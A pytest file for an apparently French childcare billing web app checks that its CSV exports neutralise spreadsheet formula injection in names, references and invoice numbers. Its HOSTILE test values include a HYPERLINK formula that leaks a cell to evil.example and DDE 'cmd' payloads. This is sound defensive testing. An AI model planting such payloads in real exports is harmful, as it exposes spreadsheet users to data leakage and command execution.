"""CSV formula injection: no cell of any export starts with =, +, -, @, a tab or a carriage
return, whatever text families and agents typed; amounts the code formatted stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest

from ecp import clock
from ecp.booking import services as booking
from ecp.booking.tables import Booking
from ecp.commune.tables import Activity, School, SchoolClass, SchoolYear
from ecp.families.tables import Child, Family
from ecp.invoices.billing import run_billing
from ecp.invoices.tables import Invoice
from ecp.payments.tables import Payment
from ecp.web import csv_export
from tests import booking_factories as bf
from tests import factories
from tests.invoices_factories import NOV, make_billed_family, make_commune
from tests.support import login_staff, post_form

SRC = Path(__file__).resolve().parents[3] / "src" / "ecp"

# Every CSV export of the app, by route name: the test below fails when a route named *csv* or
# *export* (or a path ending in .csv) appears without being added here, and so checked.
EXPORTS = {
    "staff_payments_export",
    "staff_attendance_csv",
    "staff_regie_journal_csv",
    "staff_regie_slip_csv",
    "staff_overdue_csv",
    "staff_caf_csv",
    "staff_meals_csv",
}

HOSTILE = {
    "equals": '=HYPERLINK("https://evil.example/?leak="&A1;"Cliquez")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+33 6 12 34 56 78",
    "minus": "-2+3+cmd|'/C calc'",  # fits an invoice number (20 characters)
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
# The amount columns of the payments export: numbers the code formats (csv_export.decimal_fr).
AMOUNT = re.compile(r"^-?\d+,\d{2}$")


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=";"))


def _assert_neutralised(rows: list[list[str]], number_columns: set[str] = frozenset()) -> None:
    header, *body = rows
    assert body, "the export is empty: nothing was checked"
    for row in rows:
        for name, cell in zip(header, row, strict=True):
            if name in number_columns and AMOUNT.match(cell):
                continue
            assert not cell.startswith(csv_export.FORMULA_START), (name, cell)


def _joined(rows) -> str:
    return "\n".join(";".join(r) for r in rows)


def test_neutralise_prefixes_every_formula_start_and_keeps_numbers():
    for value in HOSTILE.values():
        assert csv_export.neutralise(value) == "'" + value
    assert csv_export.neutralise("Martin") == "Martin" and csv_export.neutralise(None) == ""
    assert csv_export.neutralise(-5) == -5 and csv_export.neutralise(12.5) == 12.5
    # Text that looks like a negative number is still text someone typed: prefixed.
    assert csv_export.neutralise("-12,50") == "'-12,50"
    assert csv_export.neutralise(csv_export.decimal_fr(-1250)) == "-12,50"
    assert csv_export.decimal_fr(-5) == "-0,05" and csv_export.decimal_fr(123405) == "1234,05"
    with pytest.raises(ValueError, match="not a formatted number"):
        csv_export.Number("-1+cmd")


async def test_payments_export_neutralises_every_text_cell(client, settings):
    await factories.make_staff(role="regisseur", display_name=HOSTILE["plus"])
    commune = await make_commune()
    family, _ = await make_billed_family(commune, code="F00001", days=(2, 3))
    await run_billing(NOV, settings=settings)
    invoice = await Invoice.select().first()
    await login_staff(client)
    response = await post_form(
        client,
        "/agents/paiements",
        {
            "famille": "F00001",
            "facture": [str(invoice["id"])],
            "montant": "9,00",
            "mode": "cheque",
            "reference": HOSTILE["at"],
            "tireur": HOSTILE["plus"],
            "banque": HOSTILE["tab"],
            "date": "15/11/2026",
        },
        from_page="/agents/paiements",
    )
    assert response.status_code == 303
    # What typing cannot reach (name, generated numbers, the bank's transaction) is set here.
    await Family.update({Family.name: HOSTILE["equals"]}).where(Family.id == family.id)
    await Invoice.update({Invoice.number: HOSTILE["minus"]}).where(Invoice.id == invoice["id"])
    await Payment.update(
        {Payment.provider_transaction: HOSTILE["tab"], Payment.unallocated_cents: -1250}
    ).where(Payment.id > 0)

    rows = _cells(await client.get("/agents/paiements/export.csv?du=01/11/2026&au=30/11/2026"))
    _assert_neutralised(rows, number_columns={"Montant (€)", "Non affecté (€)"})
    text = _joined(rows)
    for key in ("equals", "at", "plus", "tab"):
        assert "'" + HOSTILE[key] in text, key
    # The invoice number is inside the « FAC (amount) » list: the cell starts with it.
    line = dict(zip(rows[0], rows[1], strict=True))
    assert line["Factures réglées"].startswith("'" + HOSTILE["minus"])
    # An amount the code formatted stays a number a spreadsheet sums, minus sign included.
    assert line["Montant (€)"] == "9,00" and line["Non affecté (€)"] == "-12,50"


async def test_regie_exports_neutralise_every_text_cell(client, settings):
    """The journal de régie, the cheques' bordereau and the overdue list carry what agents
    typed at the counter (reference, drawer, bank) and the family's and agent's names."""
    await factories.make_staff(role="regisseur", display_name=HOSTILE["plus"])
    commune = await make_commune()
    family, _ = await make_billed_family(commune, code="F00001", days=(2, 3, 4, 5))
    await run_billing(NOV, settings=settings)
    invoice = await Invoice.select().first()
    await login_staff(client)
    response = await post_form(
        client,
        "/agents/paiements",
        {
            "famille": "F00001",
            "facture": [str(invoice["id"])],
            "montant": "1,00",
            "mode": "cheque",
            "reference": HOSTILE["at"],
            "tireur": HOSTILE["equals"],
            "banque": HOSTILE["cr"],
            "date": "15/11/2026",
        },
        from_page="/agents/paiements",
    )
    assert response.status_code == 303
    await Family.update({Family.name: HOSTILE["minus"]}).where(Family.id == family.id)
    await Invoice.update({Invoice.number: HOSTILE["tab"]}).where(Invoice.id == invoice["id"])
    amounts = {"Montant (€)", "Reste dû (€)"}
    journal = _cells(await client.get("/agents/paiements/journal.csv?jour=15/11/2026"))
    slip = _cells(await client.get("/agents/paiements/bordereau.csv?mode=cheque&du=15/11/2026"))
    late = clock.today() - dt.timedelta(days=40)
    await Invoice.update({Invoice.due_on: late}).where(Invoice.id == invoice["id"])
    overdue = _cells(await client.get("/agents/paiements/impayes.csv"))
    for rows in (journal, slip, overdue):
        _assert_neutralised(rows, number_columns=amounts)
    text = _joined(journal) + _joined(slip)
    for key in ("at", "equals", "minus", "plus"):
        assert "'" + HOSTILE[key] in text, key
    assert "'=1+1" in text  # the bank, once the form trimmed its carriage return
    assert "'" + HOSTILE["tab"] in _joined(journal) and "'" + HOSTILE["tab"] in _joined(overdue)
    assert "'" + HOSTILE["minus"] in _joined(overdue)


async def test_attendance_export_neutralises_every_text_cell(client):
    clock.set_now(bf.NOW)
    commune = await bf.make_commune(capacity=5)
    family, (lea, hugo) = await bf.make_family_with_children(commune)
    await factories.make_staff(role="agent")
    await login_staff(client)
    for child in (lea, hugo):
        await booking.book(
            child.id, commune.activities["restauration"].id, bf.MONDAY, family_id=family.id
        )
    year = await SchoolYear.select(SchoolYear.id).first()
    klass = SchoolClass(
        school=commune.school.id, school_year=year["id"], name=HOSTILE["cr"], level="CE1"
    )
    await klass.save()
    await Child.update(
        {
            Child.last_name: HOSTILE["equals"],
            Child.first_name: HOSTILE["at"],
            Child.school_class: klass.id,
        }
    ).where(Child.id == lea.id)
    await Child.update({Child.last_name: HOSTILE["minus"], Child.first_name: HOSTILE["tab"]}).where(
        Child.id == hugo.id
    )
    await School.update({School.name: HOSTILE["plus"]}).where(School.id == commune.school.id)
    await Activity.update({Activity.label: "-" + "Restauration"}).where(
        Activity.id == commune.activities["restauration"].id
    )
    assert await Booking.count() == 2

    rows = _cells(await client.get(f"/agents/effectifs.csv?jour={bf.MONDAY.isoformat()}"))
    _assert_neutralised(rows)
    text = _joined(rows)
    for value in (*HOSTILE.values(), "-Restauration"):
        assert "'" + value in text, value


def test_every_csv_export_route_is_checked(app):
    found = set()
    for route in app.routes:
        for handler in route.route_handlers:
            name = handler.name or ""
            if "GET" not in (handler.http_methods or ()):
                continue
            if route.path.endswith(".csv") or "csv" in name.lower() or "export" in name.lower():
                found.add(name)
    assert found == EXPORTS


def test_no_csv_writer_outside_the_shared_helper():
    """A new export written with csv.writer directly would escape the neutralisation."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "csv_export.py" or "bench" in path.parts:
            continue
        source = path.read_text(encoding="utf-8")
        if "csv.writer(" in source or "csv.DictWriter(" in source:
            offenders.append(str(path.relative_to(SRC)))
        if "text/csv" in source and "csv_export" not in source:
            offenders.append(str(path.relative_to(SRC)))
    assert offenders == []


async def test_the_state_reports_neutralise_school_and_activity_names(client):
    from ecp.booking.tables import Attendance

    clock.set_now(dt.datetime(2026, 11, 20, 10, tzinfo=clock.PARIS))
    school = await factories.make_school(HOSTILE["equals"])
    canteen = await factories.make_activity("restauration", HOSTILE["plus"])
    evening = await factories.make_activity(
        "garderie_soir", HOSTILE["at"], starts_at=dt.time(16, 30), ends_at=dt.time(18)
    )
    family = await factories.make_family("F00001", name="Martin")
    child = await factories.make_child(family, school=school)
    for activity in (canteen, evening):
        await Attendance(
            child=child.id,
            activity=activity.id,
            school=school.id,
            day=dt.date(2026, 11, 16),
            status="present",
            marked_at=clock.now(),
        ).save()
    await factories.make_staff(role="regisseur")
    await login_staff(client)
    caf = _cells(await client.get("/agents/finance/caf.csv?periode=2026-11"))
    _assert_neutralised(caf, number_columns={"Heures moins de 6 ans", "Heures 6 ans et plus"})
    meals = _cells(await client.get("/agents/finance/ma-cantine.csv?annee=2026"))
    _assert_neutralised(meals)
    assert "'" + HOSTILE["equals"] in _joined(caf) and "'" + HOSTILE["at"] in _joined(caf)
    assert "'" + HOSTILE["equals"] in _joined(meals)
